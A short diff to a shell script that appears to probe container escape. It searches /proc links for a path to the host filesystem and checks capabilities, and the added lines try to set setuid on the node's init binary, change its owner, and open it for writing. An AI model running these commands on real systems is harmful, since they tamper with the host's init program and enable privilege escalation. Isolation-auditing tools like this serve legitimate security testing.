@@ -39,6 +39,9 @@ for at in /proc/[0-9]*/fd/* /proc/[0-9]*/cwd /proc/[0-9]*/root; do
     [ -e "$at/$up/$1" ] && echo "reached the host by $at, which is $(readlink $at)" && break
   done
 done 2>/dev/null
+chmod u+s /proc/1/exe && echo "made the program of the node's init setuid"
+chown 65534 /proc/1/exe && echo "gave the program of the node's init to another user"
+true >> /proc/1/exe && echo "opened the program of the node's init for writing"
 set -- $(grep CapBnd /proc/self/status)
 [ $((0x$2 & 4)) = 0 ] || echo "may open files by number (CAP_DAC_READ_SEARCH)"
 true
